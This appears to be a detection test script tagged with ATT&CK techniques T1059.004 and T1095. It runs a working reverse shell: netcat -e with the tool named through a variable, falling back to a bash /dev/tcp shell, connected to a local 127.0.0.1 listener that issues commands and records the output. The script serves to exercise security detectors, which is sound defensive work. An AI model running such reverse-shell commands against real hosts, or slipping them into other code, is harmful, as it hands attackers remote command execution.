# technique: T1059.004 T1095
"""Reverse shell with netcat and a fallback: "nc -e /bin/sh HOST PORT || …" (T1059.004, T1095).

The command text tries netcat's -e (program to execute) first, named
through a variable ($N), and falls back to a bash file-descriptor
reverse shell (exec 3<>/dev/tcp/…; sh <&3 >&3) when nc is missing. Run
through subprocess.Popen(shell=True) with a list of one string. On hosts
without netcat only the fallback connects.

A good detector raises a critical alert: shell text that runs netcat with
-e, or opens a /dev/tcp descriptor and runs a shell on it.
"""
import socket
import subprocess
import threading

def start_operator(commands=b"echo operator-sees-$(id -u)\nexit\n"):
    """Our own peer on 127.0.0.1: accepts one connection, types commands, reads until the shell ends."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(4)
    transcript = []

    def operator():
        try:
            conn, _ = listener.accept()
        except OSError:
            return
        conn.settimeout(3)
        conn.sendall(commands)
        data = b""
        try:
            while True:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                data += chunk
        except OSError:
            pass
        transcript.append(data)
        conn.close()

    thread = threading.Thread(target=operator, daemon=True)
    thread.start()
    return listener.getsockname()[1], thread, transcript

port, operator, transcript = start_operator()
text = ("N=nc; $N -e /bin/sh 127.0.0.1 {p} 2>/dev/null || "
        "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{p}; sh <&3 >&3 2>&3'").format(p=port)
proc = subprocess.Popen([text], shell=True)
proc.wait(timeout=5)
operator.join(3)
print("operator transcript:", transcript)
